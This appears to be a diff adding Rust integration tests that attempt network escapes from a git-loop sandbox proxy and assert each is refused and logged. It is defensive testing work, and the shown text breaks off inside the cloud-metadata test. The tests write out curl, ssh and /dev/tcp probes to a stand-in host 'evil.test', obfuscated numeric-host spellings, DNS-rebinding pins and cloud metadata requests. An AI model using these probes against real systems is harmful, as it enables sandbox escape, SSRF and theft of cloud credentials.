@@ -1,0 +1,1617 @@
+//! The attack battery, "Network (proxy mode)" (ATTACKS.md items 19-27), and the positive
+//! twins: what the agent legitimately needs through the proxy still works.
+//!
+//! Every attack is really attempted from inside a sandbox started by `git loop run`, and
+//! each test asserts that it failed, that the violation was recorded in `events.jsonl`,
+//! and that the server the attack aimed at saw nothing. Every server is one the test
+//! starts on 127.0.0.1; every name the proxy could dial is pinned by the operator config
+//! (`[network.hosts]`) to 127.0.0.1, so no test ever resolves a name through DNS or sends a
+//! packet to any address that is not this machine's. Attacks on other addresses
+//! (metadata, private ranges) name them only as pins or numeric targets the proxy refuses
+//! before it dials.
+
+use std::fs;
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream, UdpSocket};
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use crate::common::{Run, TestEnv};
+
+// ---------------------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------------------
+
+/// A test workspace with one code loop, and an operator config.
+fn setup(operator: &str) -> (TestEnv, String) {
+    let env = TestEnv::new();
+    let repo = env.repo("app");
+    let id = env.new_loop(&repo, "egress");
+    write_operator(&env, operator);
+    (env, id)
+}
+
+fn write_operator(env: &TestEnv, body: &str) {
+    let dir = env.home.join(".config/git-loop");
+    fs::create_dir_all(&dir).unwrap();
+    fs::write(dir.join("config.toml"), body).unwrap();
+}
+
+/// Operator config pinning `names` to 127.0.0.1, with 127.0.0.0/8 allowed or not.
+fn pins(names: &[&str], allow_loopback: bool) -> String {
+    let mut s = String::from("[network]\n");
+    if allow_loopback {
+        s.push_str("allow_cidrs = [\"127.0.0.0/8\"]\n");
+    }
+    s.push_str("\n[network.hosts]\n");
+    for n in names {
+        s.push_str(&format!("\"{n}\" = \"127.0.0.1\"\n"));
+    }
+    s
+}
+
+/// `git loop run -q ID [--allow-domain D]... -- sh -c SCRIPT ARGS...`.
+fn sh(env: &TestEnv, id: &str, allow: &[&str], script: &str, args: &[&str]) -> Run {
+    let mut argv = vec!["run", "-q", id];
+    for a in allow {
+        argv.extend(["--allow-domain", a]);
+    }
+    argv.extend(["--", "sh", "-c", script, "sh"]);
+    argv.extend_from_slice(args);
+    env.run(argv)
+}
+
+/// `git loop run -q ID [--allow-domain D]... -- python3 -c CODE ARGS...`.
+fn py(env: &TestEnv, id: &str, allow: &[&str], code: &str, args: &[&str]) -> Run {
+    let mut argv = vec!["run", "-q", id];
+    for a in allow {
+        argv.extend(["--allow-domain", a]);
+    }
+    argv.extend(["--", "python3", "-c", code]);
+    argv.extend_from_slice(args);
+    env.run(argv)
+}
+
+/// The loop's violation events.
+fn violations(env: &TestEnv, id: &str) -> Vec<serde_json::Value> {
+    fs::read_to_string(env.loop_dir(id).join("events.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter(|e| e["kind"] == "violation")
+        .collect()
+}
+
+/// Asserts a violation event for `target` whose rule is `rule`.
+#[track_caller]
+fn assert_violation(env: &TestEnv, id: &str, target: &str, rule: &str) {
+    let all = violations(env, id);
+    assert!(
+        all.iter().any(|v| v["action"] == "network-outbound"
+            && v["target"] == target
+            && v["rule"] == rule
+            && v["reason"].as_str().is_some_and(|r| !r.is_empty())),
+        "no violation event for {target} (rule {rule}); events:\n{}",
+        all.iter()
+            .map(|v| v.to_string())
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+}
+
+/// The value of `LABEL => value` lines a probe printed.
+#[track_caller]
+fn probe<'a>(run: &'a Run, label: &str) -> &'a str {
+    let prefix = format!("{label} => ");
+    run.stdout
+        .lines()
+        .find_map(|l| l.strip_prefix(&prefix))
+        .unwrap_or_else(|| panic!("no {label} in:\n{}\n{}", run.stdout, run.stderr))
+}
+
+/// A plain HTTP server on 127.0.0.1 that answers every request with its name, and
+/// records what reached it. A canary: an attack test asserts it saw nothing.
+struct Web {
+    port: u16,
+    connections: Arc<AtomicUsize>,
+    requests: Arc<Mutex<Vec<String>>>,
+}
+
+impl Web {
+    fn start(name: &'static str) -> Web {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let connections = Arc::new(AtomicUsize::new(0));
+        let requests = Arc::new(Mutex::new(Vec::new()));
+        let (c, r) = (connections.clone(), requests.clone());
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                c.fetch_add(1, Ordering::SeqCst);
+                let r = r.clone();
+                std::thread::spawn(move || {
+                    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
+                    let mut head = Vec::new();
+                    let mut buf = [0u8; 4096];
+                    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                        match stream.read(&mut buf) {
+                            Ok(0) | Err(_) => return,
+                            Ok(n) => head.extend_from_slice(&buf[..n]),
+                        }
+                    }
+                    r.lock()
+                        .unwrap()
+                        .push(String::from_utf8_lossy(&head).into_owned());
+                    let body = format!("hello from {name}\n");
+                    let _ = write!(
+                        stream,
+                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                        body.len()
+                    );
+                });
+            }
+        });
+        Web {
+            port,
+            connections,
+            requests,
+        }
+    }
+
+    fn seen(&self) -> usize {
+        self.connections.load(Ordering::SeqCst)
+    }
+
+    fn requests(&self) -> Vec<String> {
+        self.requests.lock().unwrap().clone()
+    }
+}
+
+/// A UDP socket on 127.0.0.1 that must receive nothing.
+struct UdpCanary(UdpSocket);
+
+impl UdpCanary {
+    fn start() -> UdpCanary {
+        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
+        s.set_read_timeout(Some(Duration::from_millis(300)))
+            .unwrap();
+        UdpCanary(s)
+    }
+    fn port(&self) -> u16 {
+        self.0.local_addr().unwrap().port()
+    }
+    fn received(&self) -> bool {
+        let mut buf = [0u8; 512];
+        self.0.recv_from(&mut buf).is_ok()
+    }
+}
+
+/// A tool the tests need; under CI its absence fails the test with the fix.
+fn require(tool: &str, package: &str) -> Option<PathBuf> {
+    let found = std::env::var("PATH")
+        .unwrap_or_default()
+        .split(':')
+        .chain(["/usr/sbin", "/sbin"])
+        .map(|d| Path::new(d).join(tool))
+        .find(|p| p.is_file());
+    if found.is_none() {
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "{tool} is needed for this test: sudo apt-get install {package}"
+        );
+        eprintln!("skipping: {tool} is missing (sudo apt-get install {package})");
+    }
+    found
+}
+
+/// A test CA (`ca.pem` in `dir`, which the tests put in the loop's workdir as `tls/`) and
+/// a server certificate for the test names, made with openssl.
+struct Certs {
+    cert: PathBuf,
+    key: PathBuf,
+}
+
+fn make_certs(dir: &Path, names: &[&str]) -> Certs {
+    fs::create_dir_all(dir).unwrap();
+    let run = |args: &[&str]| {
+        let out = Command::new("openssl")
+            .args(args)
+            .current_dir(dir)
+            .stdin(Stdio::null())
+            .output()
+            .expect("openssl runs");
+        assert!(
+            out.status.success(),
+            "openssl {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    run(&[
+        "req",
+        "-x509",
+        "-newkey",
+        "ec",
+        "-pkeyopt",
+        "ec_paramgen_curve:prime256v1",
+        "-nodes",
+        "-keyout",
+        "ca.key",
+        "-out",
+        "ca.pem",
+        "-days",
+        "2",
+        "-subj",
+        "/CN=git-loop test CA",
+        "-addext",
+        "basicConstraints=critical,CA:TRUE",
+        "-addext",
+        "keyUsage=critical,keyCertSign",
+    ]);
+    run(&[
+        "req",
+        "-newkey",
+        "ec",
+        "-pkeyopt",
+        "ec_paramgen_curve:prime256v1",
+        "-nodes",
+        "-keyout",
+        "server.key",
+        "-out",
+        "server.csr",
+        "-subj",
+        "/CN=git-loop test server",
+    ]);
+    let sans: Vec<String> = names.iter().map(|n| format!("DNS:{n}")).collect();
+    fs::write(
+        dir.join("ext.cnf"),
+        format!(
+            "subjectAltName={}\nbasicConstraints=CA:FALSE\nkeyUsage=digitalSignature\nextendedKeyUsage=serverAuth\n",
+            sans.join(",")
+        ),
+    )
+    .unwrap();
+    run(&[
+        "x509",
+        "-req",
+        "-in",
+        "server.csr",
+        "-CA",
+        "ca.pem",
+        "-CAkey",
+        "ca.key",
+        "-CAcreateserial",
+        "-out",
+        "server.pem",
+        "-days",
+        "2",
+        "-extfile",
+        "ext.cnf",
+    ]);
+    Certs {
+        cert: dir.join("server.pem"),
+        key: dir.join("server.key"),
+    }
+}
+
+/// python3's http.server over a folder, plain and TLS, on 127.0.0.1; logs `scheme host
+/// path` of every request.
+const FILE_SERVER: &str = r#"
+import functools, http.server, ssl, sys, threading
+root, certfile, keyfile, log = sys.argv[1:5]
+class Handler(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, fmt, *args):
+        with open(log, "a") as f:
+            f.write("%s %s %s\n" % (self.server.scheme, self.headers.get("Host"), self.path))
+def start(scheme):
+    s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=root))
+    s.daemon_threads = True
+    s.scheme = scheme
+    if scheme == "https":
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        ctx.load_cert_chain(certfile, keyfile)
+        s.socket = ctx.wrap_socket(s.socket, server_side=True, do_handshake_on_connect=False)
+    threading.Thread(target=s.serve_forever, daemon=True).start()
+    return s.server_address[1]
+print(start("http"), start("https"), flush=True)
+sys.stdin.read()
+"#;
+
+struct FileServer {
+    child: Child,
+    http: u16,
+    https: u16,
+    log: PathBuf,
+}
+
+impl FileServer {
+    fn start(root: &Path, certs: &Certs, log: &Path) -> FileServer {
+        let mut child = Command::new("python3")
+            .args(["-c", FILE_SERVER])
+            .arg(root)
+            .arg(&certs.cert)
+            .arg(&certs.key)
+            .arg(log)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("python3 starts");
+        let mut line = String::new();
+        let mut out = child.stdout.take().unwrap();
+        let mut byte = [0u8; 1];
+        while out.read(&mut byte).unwrap_or(0) == 1 && byte[0] != b'\n' {
+            line.push(byte[0] as char);
+        }
+        let ports: Vec<u16> = line
+            .split_whitespace()
+            .filter_map(|p| p.parse().ok())
+            .collect();
+        assert_eq!(ports.len(), 2, "the file server did not start: {line:?}");
+        FileServer {
+            child,
+            http: ports[0],
+            https: ports[1],
+            log: log.to_path_buf(),
+        }
+    }
+
+    fn log(&self) -> String {
+        fs::read_to_string(&self.log).unwrap_or_default()
+    }
+}
+
+impl Drop for FileServer {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Raw proxy clients inside the sandbox, one probe per argument `LABEL|KIND|ARGS...`;
+/// each prints `LABEL => result`. The token comes from HTTPS_PROXY, as a client's would.
+const PROBES: &str = r#"
+import base64, os, socket, ssl, struct, sys, urllib.parse
+TOKEN = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).password
+AUTH = "Basic " + base64.b64encode(("gitloop:" + TOKEN).encode()).decode()
+CA = os.environ.get("PROBE_CA", "tls/ca.pem")
+
+def recv_all(s):
+    data = b""
+    while True:
+        try:
+            c = s.recv(65536)
+        except OSError as e:
+            return data + (" <%s>" % e).encode()
+        if not c:
+            return data
+        data += c
+
+def head(s):
+    data = b""
+    while b"\r\n\r\n" not in data:
+        c = s.recv(4096)
+        if not c:
+            break
+        data += c
+    return data.split(b"\r\n", 1)[0].decode(errors="replace"), data
+
+def summary(data):
+    first = data.split(b"\r\n", 1)[0].decode(errors="replace")
+    body = data.split(b"\r\n\r\n", 1)[-1][:400].decode(errors="replace").replace("\n", " ")
+    return first + " | " + body
+
+def http(target, host, auth="yes"):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
+    req = "GET %s HTTP/1.1\r\n" % target
+    if host != "-":
+        req += "Host: %s\r\n" % host
+    if auth == "yes":
+        req += "Proxy-Authorization: %s\r\n" % AUTH
+    s.sendall((req + "Connection: close\r\n\r\n").encode())
+    return summary(recv_all(s))
+
+def connect(authority, host, inner="-", sni="-"):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
+    req = "CONNECT %s HTTP/1.1\r\n" % authority
+    if host != "-":
+        req += "Host: %s\r\n" % host
+    s.sendall((req + "Proxy-Authorization: %s\r\n\r\n" % AUTH).encode())
+    line, _ = head(s)
+    if not line.startswith("HTTP/1.1 200") or (inner == "-" and sni == "-"):
+        return line
+    return through(s, inner, sni)
+
+def through(s, inner, sni):
+    """A request through an open tunnel: plain HTTP naming `inner`, or TLS with `sni`."""
+    if sni != "-":
+        ctx = ssl.create_default_context(cafile=CA)
+        try:
+            t = ctx.wrap_socket(s, server_hostname=sni)
+            t.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % sni).encode())
+            return "TLS " + summary(recv_all(t))
+        except (OSError, ssl.SSLError) as e:
+            return "TLS-FAILED %s" % type(e).__name__
+    s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % inner).encode())
+    return "TUNNEL " + summary(recv_all(s))
+
+def socks(atyp, host, port, methods="2", password="-", cmd="1", sni="-"):
+    s = socket.create_connection(("127.0.0.1", 1080), timeout=30)
+    ms = bytes(int(m) for m in methods.split(","))
+    s.sendall(bytes([5, len(ms)]) + ms)
+    r = s.recv(2)
+    if r != b"\x05\x02":
+        return "METHOD-REFUSED %s" % r.hex()
+    pw = (TOKEN if password == "-" else password).encode()
+    s.sendall(bytes([1, 7]) + b"gitloop" + bytes([len(pw)]) + pw)
+    r = s.recv(2)
+    if r != b"\x01\x00":
+        return "AUTH-REFUSED %s" % r.hex()
+    if atyp == "domain":
+        addr = bytes([3, len(host.encode())]) + host.encode()
+    elif atyp == "v4":
+        addr = b"\x01" + socket.inet_aton(host)
+    else:
+        addr = b"\x04" + socket.inet_pton(socket.AF_INET6, host)
+    s.sendall(bytes([5, int(cmd), 0]) + addr + struct.pack(">H", int(port)))
+    r = s.recv(10)
+    if len(r) < 2:
+        return "CLOSED"
+    if r[1] != 0:
+        return "REPLY %d" % r[1]
+    return "REPLY 0 " + through(s, host, sni)
+
+for arg in sys.argv[1:]:
+    label, kind, *rest = arg.split("|")
+    try:
+        result = {"http": http, "connect": connect, "socks": socks}[kind](*rest)
+    except OSError as e:
+        result = "ERROR %s" % e
+    print("%s => %s" % (label, result), flush=True)
+"#;
+
+// ---------------------------------------------------------------------------------------
+// 19. Hosts not on the allowlist, by every route
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn attack_19_unlisted_hosts_are_refused_by_every_route() {
+    // evil.test is pinned to a live server on loopback and loopback is allowed: the
+    // allowlist alone stands between the sandbox and it.
+    let (env, id) = setup(&pins(&["allowed.test", "evil.test"], true));
+    let web = Web::start("web");
+    let p = web.port.to_string();
+    let script = format!(
+        r#"
+echo "CURL-HTTP $(curl -s -o /dev/null -w '%{{http_code}}' http://evil.test:{p}/)"
+curl -sS -o /dev/null https://evil.test:{p}/ 2>&1 | sed 's/^/CURL-CONNECT /'
+curl -sS -o /dev/null -x "$ALL_PROXY" http://evil.test:{p}/ 2>&1 | sed 's/^/CURL-SOCKS /'
+git clone -q http://evil.test:{p}/repo.git /tmp/r1 2>&1 | sed 's/^/GIT /'
+eval "$GIT_SSH_COMMAND -o BatchMode=yes -o StrictHostKeyChecking=no -p {p} git@evil.test true" 2>&1 | sed 's/^/SSH /'
+echo "ALLOWED $(curl -s http://allowed.test:{p}/)"
+"#
+    );
+    let run = sh(&env, &id, &["allowed.test"], &script, &[]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    run.stdout_has("CURL-HTTP 403")
+        .stdout_has("CURL-CONNECT curl: (56) CONNECT tunnel failed, response 403")
+        .stdout_has("CURL-SOCKS curl: (97)")
+        .stdout_has("GIT fatal: unable to access")
+        .stdout_has("SSH error: cannot connect to evil.test")
+        .stdout_has("the sandbox's network policy refused evil.test")
+        .stdout_has("ALLOWED hello from web");
+    let target = format!("evil.test:{p}");
+    for via in ["http", "connect", "socks"] {
+        assert!(
+            violations(&env, &id)
+                .iter()
+                .any(|v| v["target"] == target && v["rule"] == "allowlist" && v["via"] == via),
+            "no {via} violation: {:?}",
+            violations(&env, &id)
+        );
+    }
+    // Only the positive twin reached the server.
+    assert_eq!(web.seen(), 1, "{:?}", web.requests());
+    assert!(web.requests()[0].contains(&format!("Host: allowed.test:{p}")));
+    // `git loop log` shows the refusals.
+    env.run(["log", &id]).ok().stdout_has(&format!(
+        "violation network-outbound {target} refused: evil.test is not on this sandbox's allowlist"
+    ));
+}
+
+// ---------------------------------------------------------------------------------------
+// 20. Direct connections: no route but the proxy
+// ---------------------------------------------------------------------------------------
+
+/// This machine's own addresses other than loopback (its interfaces'): as targets from
+/// inside they show there is no route, and they are not any other machine's.
+fn own_addresses() -> Vec<String> {
+    let mut out = Vec::new();
+    // SAFETY: getifaddrs fills a list we walk read-only and free with freeifaddrs.
+    unsafe {
+        let mut list: *mut libc::ifaddrs = std::ptr::null_mut();
+        if libc::getifaddrs(&mut list) != 0 {
+            return out;
+        }
+        let mut cur = list;
+        while !cur.is_null() {
+            let addr = (*cur).ifa_addr;
+            if !addr.is_null() && i32::from((*addr).sa_family) == libc::AF_INET {
+                let sin = &*(addr as *const libc::sockaddr_in);
+                let ip = std::net::Ipv4Addr::from(u32::from_be(sin.sin_addr.s_addr));
+                if !ip.is_loopback() {
+                    out.push(ip.to_string());
+                }
+            }
+            cur = (*cur).ifa_next;
+        }
+        libc::freeifaddrs(list);
+    }
+    out
+}
+
+#[test]
+fn attack_20_there_is_no_route_but_the_proxy() {
+    let (env, id) = setup(&pins(&["allowed.test"], true));
+    let web = Web::start("web");
+    let udp = UdpCanary::start();
+    let own = own_addresses();
+    let code = r#"
+import errno, socket, sys
+port, udp_port, addrs = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
+def name(e):
+    return errno.errorcode.get(e.errno, str(e))
+for a in ["127.0.0.1"] + addrs:
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(5)
+    try:
+        s.connect((a, port))
+        print("ESCAPED: tcp to", a)
+    except OSError as e:
+        print("TCP", a, name(e))
+for a in ["127.0.0.1"] + addrs:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        s.sendto(b"exfiltrated", (a, udp_port))
+        print("UDP", a, "sent")
+    except OSError as e:
+        print("UDP", a, name(e))
+for fam, kind, proto, label in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "RAW"),
+                                (socket.AF_PACKET, socket.SOCK_RAW, 0, "PACKET")]:
+    try:
+        socket.socket(fam, kind, proto)
+        print("ESCAPED:", label, "socket")
+    except OSError as e:
+        print(label, name(e))
+routes = [l.split() for l in open("/proc/net/route").read().splitlines()[1:] if l.strip()]
+print("ROUTES", len(routes))
+ifaces = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
+print("IFACES", ",".join(ifaces))
+v6 = [l.split()[-1] for l in open("/proc/net/ipv6_route").read().splitlines() if l.strip()]
+print("V6-ROUTES-OFF-LO", len([d for d in v6 if d != "lo"]))
+"#;
+    let port = web.port.to_string();
+    let udp_port = udp.port().to_string();
+    let mut args = vec![port.as_str(), udp_port.as_str()];
+    args.extend(own.iter().map(String::as_str));
+    let run = py(&env, &id, &["allowed.test"], code, &args);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    assert!(!run.stdout.contains("ESCAPED"), "{}", run.stdout);
+    // The sandbox's 127.0.0.1 is its own: the host's server is not there.
+    run.stdout_has("TCP 127.0.0.1 ECONNREFUSED")
+        .stdout_has("RAW EPERM")
+        .stdout_has("PACKET EPERM")
+        .stdout_has("ROUTES 0")
+        .stdout_has("IFACES lo\n")
+        .stdout_has("V6-ROUTES-OFF-LO 0");
+    for a in &own {
+        run.stdout_has(&format!("TCP {a} ENETUNREACH"));
+        run.stdout_has(&format!("UDP {a} ENETUNREACH"));
+    }
+    assert!(
+        !udp.received(),
+        "a datagram from the sandbox reached the host"
+    );
+    assert_eq!(web.seen(), 0, "{:?}", web.requests());
+    // bash's /dev/tcp is no way out either.
+    let bash = sh(
+        &env,
+        &id,
+        &[],
+        &format!("bash -c 'echo x > /dev/tcp/127.0.0.1/{port}' 2>&1 || echo BASH-REFUSED"),
+        &[],
+    );
+    bash.stdout_has("BASH-REFUSED");
+    assert_eq!(web.seen(), 0);
+    // Positive twin: the same server through the proxy.
+    sh(
+        &env,
+        &id,
+        &["allowed.test"],
+        &format!("curl -sS http://allowed.test:{port}/"),
+        &[],
+    )
+    .ok()
+    .stdout_has("hello from web");
+    assert_eq!(web.seen(), 1);
+}
+
+// ---------------------------------------------------------------------------------------
+// 21. Numeric hosts in every spelling
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn attack_21_numeric_hosts_are_refused_in_every_spelling() {
+    // Loopback is an allowed range here: only the numeric-host rule refuses these.
+    let (env, id) = setup(&pins(&["allowed.test"], true));
+    let web = Web::start("web");
+    let p = web.port;
+    let spellings = [
+        "127.0.0.1",
+        "127.1",
+        "0x7f.0.0.1",
+        "0x7f000001",
+        "2130706433",
+        "0177.0.0.1",
+        "017700000001",
+        "0.0.0.0",
+        "0",
+        "[::1]",
+        "[::ffff:127.0.0.1]",
+        "[::ffff:7f00:1]",
+        "127.0.0.1.",
+    ];
+    let mut probes = Vec::new();
+    for (i, s) in spellings.iter().enumerate() {
+        probes.push(format!("http-{i}|http|http://{s}:{p}/|{s}:{p}"));
+        probes.push(format!("connect-{i}|connect|{s}:{p}|-"));
+        let bare = s.trim_start_matches('[').trim_end_matches(']');
+        probes.push(format!("socksname-{i}|socks|domain|{bare}|{p}"));
+    }
+    probes.push(format!("socks-v4|socks|v4|127.0.0.1|{p}"));
+    probes.push(format!("socks-v6|socks|v6|::1|{p}"));
+    probes.push(format!("socks-v6-mapped|socks|v6|::ffff:127.0.0.1|{p}"));
+    probes.push(format!(
+        "twin|http|http://allowed.test:{p}/|allowed.test:{p}"
+    ));
+    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
+    let run = py(&env, &id, &["allowed.test"], PROBES, &args);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    for (i, s) in spellings.iter().enumerate() {
+        let http = probe(&run, &format!("http-{i}"));
+        assert!(http.starts_with("HTTP/1.1 403"), "{s}: {http}");
+        assert!(http.contains("rule: numeric-host"), "{s}: {http}");
+        let connect = probe(&run, &format!("connect-{i}"));
+        assert!(connect.starts_with("HTTP/1.1 403"), "{s}: {connect}");
+        assert_eq!(probe(&run, &format!("socksname-{i}")), "REPLY 2", "{s}");
+        assert_violation(&env, &id, &format!("{s}:{p}"), "numeric-host");
+    }
+    for label in ["socks-v4", "socks-v6", "socks-v6-mapped"] {
+        assert_eq!(probe(&run, label), "REPLY 2", "{label}");
+    }
+    assert_violation(&env, &id, &format!("[::1]:{p}"), "numeric-host");
+    assert!(probe(&run, "twin").contains("hello from web"));
+    assert_eq!(
+        web.seen(),
+        1,
+        "only the twin reached the server: {:?}",
+        web.requests()
+    );
+    // curl's own spelling of the same (it may normalise it first): still refused.
+    let curl = sh(
+        &env,
+        &id,
+        &[],
+        &format!("for u in http://127.1:{p}/ http://0x7f.0.0.1:{p}/ http://2130706433:{p}/ 'http://[::1]:{p}/'; do echo \"$u $(curl --noproxy '' -s -o /dev/null -w '%{{http_code}}' \"$u\")\"; done"),
+        &[],
+    );
+    assert_eq!(curl.stdout.matches(" 403\n").count(), 4, "{}", curl.stdout);
+    assert_eq!(web.seen(), 1);
+    // An address is no allowlist entry either.
+    env.run(["run", &id, "--allow-domain", "127.0.0.1", "--", "true"])
+        .fails(2)
+        .stderr_has("is an IP address");
+}
+
+// ---------------------------------------------------------------------------------------
+// 22. DNS rebinding: allowed names that resolve to local addresses
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn attack_22_names_that_resolve_to_local_addresses_are_refused() {
+    // No allow_cidrs: every local address is refused at connect time. The pins stand in
+    // for a DNS answer an attacker controls; the proxy refuses before it dials any of
+    // them. `localhost` is resolved for real (by /etc/hosts).
+    let pinned = [
+        ("rebind.test", "127.0.0.1"),
+        ("ten.test", "10.1.2.3"),
+        ("corp.test", "192.168.7.7"),
+        ("cgnat.test", "100.64.1.1"),
+        ("linklocal.test", "169.254.10.10"),
+        ("meta.test", "169.254.169.254"),
+        ("v6meta.test", "fd00:ec2::254"),
+        ("ula.test", "fd12:3456::1"),
+        ("v6local.test", "::1"),
+        ("mapped.test", "::ffff:127.0.0.1"),
+        ("zero.test", "0.0.0.0"),
+    ];
+    let mut config = String::from("[network.hosts]\n");
+    for (n, a) in pinned {
+        config.push_str(&format!("\"{n}\" = \"{a}\"\n"));
+    }
+    let (env, id) = setup(&config);
+    let web = Web::start("web");
+    let p = web.port;
+    let mut probes = Vec::new();
+    for (n, _) in pinned {
+        probes.push(format!("{n}-http|http|http://{n}:{p}/|{n}:{p}"));
+        probes.push(format!("{n}-connect|connect|{n}:{p}|-"));
+        probes.push(format!("{n}-socks|socks|domain|{n}|{p}"));
+    }
+    probes.push(format!(
+        "localhost|http|http://localhost:{p}/|localhost:{p}"
+    ));
+    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
+    let mut allow: Vec<&str> = pinned.iter().map(|(n, _)| *n).collect();
+    allow.push("localhost");
+    let run = py(&env, &id, &allow, PROBES, &args);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    for (n, a) in pinned {
+        let http = probe(&run, &format!("{n}-http"));
+        assert!(http.starts_with("HTTP/1.1 403"), "{n}: {http}");
+        let rule = if a.contains("169.254.169.254") || a.contains("ec2") {
+            "denylist"
+        } else {
+            "address"
+        };
+        assert!(http.contains(&format!("rule: {rule}")), "{n}: {http}");
+        assert!(probe(&run, &format!("{n}-connect")).starts_with("HTTP/1.1 403"));
+        assert_eq!(probe(&run, &format!("{n}-socks")), "REPLY 2", "{n}");
+        assert_violation(&env, &id, &format!("{n}:{p}"), rule);
+    }
+    let local = probe(&run, "localhost");
+    assert!(
+        local.starts_with("HTTP/1.1 403") && local.contains("loopback"),
+        "{local}"
+    );
+    assert_violation(&env, &id, &format!("localhost:{p}"), "address");
+    assert_eq!(web.seen(), 0, "{:?}", web.requests());
+
+    // Positive twin: the operator allows loopback, and the same name reaches the server.
+    let mut ordered = String::from("[network]\nallow_cidrs = [\"127.0.0.0/8\"]\n\n");
+    ordered.push_str(&config);
+    write_operator(&env, &ordered);
+    let twin = sh(
+        &env,
+        &id,
+        &["rebind.test"],
+        &format!("curl -sS http://rebind.test:{p}/"),
+        &[],
+    );
+    twin.ok().stdout_has("hello from web");
+    assert_eq!(web.seen(), 1);
+}
+
+// ---------------------------------------------------------------------------------------
+// 23. Cloud metadata, by name and by address
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn attack_23_cloud_metadata_is_refused_by_name_and_address() {
+    // The operator even allows the link-local and ULA ranges, and the allowlist has
+    // wildcards that match the metadata names: the denylist still wins.
+    let config = "[network]\nallow_cidrs = [\"127.0.0.0/8\", \"169.254.0.0/16\", \"fd00::/8\"]\n\n\
+                  [network.hosts]\n\"metadata.google.internal\" = \"127.0.0.1\"\n\"instance-data.ec2.internal\" = \"127.0.0.1\"\n\
+                  \"imds.test\" = \"169.254.169.254\"\n\"imds6.test\" = \"fd00:ec2::254\"\n\"ecs.test\" = \"169.254.170.2\"\n\
+                  \"mapped-imds.test\" = \"::ffff:169.254.169.254\"\n";
+    let (env, id) = setup(config);
+    let web = Web::start("web");
+    let p = web.port;
+    let names = [
+        "metadata.google.internal",
+        "METADATA.Google.Internal.",
+        "instance-data.ec2.internal",
+        "metadata",
+        "imds.test",
+        "imds6.test",
+        "ecs.test",
+        "mapped-imds.test",
+    ];
+    let mut probes = Vec::new();
+    for (i, n) in names.iter().enumerate() {
+        probes.push(format!(
+            "http-{i}|http|http://{n}:{p}/computeMetadata/v1/|{n}:{p}"
+        ));
+        probes.push(format!("connect-{i}|connect|{n}:{p}|-"));
+        probes.push(format!("socks-{i}|socks|domain|{n}|{p}"));
+    }
+    for (label, addr) in [("v4", "169.254.169.254"), ("v6", "[fd00:ec2::254]")] {
+        probes.push(format!(
+            "addr-{label}|http|http://{addr}/latest/meta-data/|{addr}"
+        ));
+        probes.push(format!("addrconnect-{label}|connect|{addr}:80|-"));
+    }
+    probes.push("socks-addr-v4|socks|v4|169.254.169.254|80".to_string());
+    probes.push("socks-addr-v6|socks|v6|fd00:ec2::254|80".to_string());
+    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
+    // Wildcards and exact entries that match the metadata names: the denylist still wins.
+    let allow = [
+        "*.internal",
+        "*.google.internal",
+        "metadata.google.internal",
+        "metadata",
+        "*.test",
+    ];
+    let run = py(&env, &id, &allow, PROBES, &args);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    for (i, n) in names.iter().enumerate() {
+        let http = probe(&run, &format!("http-{i}"));
+        assert!(
+            http.starts_with("HTTP/1.1 403") && http.contains("rule: denylist"),
+            "{n}: {http}"
+        );
+        assert!(http.contains("cloud metadata"), "{n}: {http}");
+        assert!(
+            probe(&run, &format!("connect-{i}")).starts_with("HTTP/1.1 403"),
+            "{n}"
+        );
+        assert_eq!(probe(&run, &format!("socks-{i}")), "REPLY 2", "{n}");
+        assert_violation(&env, &id, &format!("{n}:{p}"), "denylist");
+    }
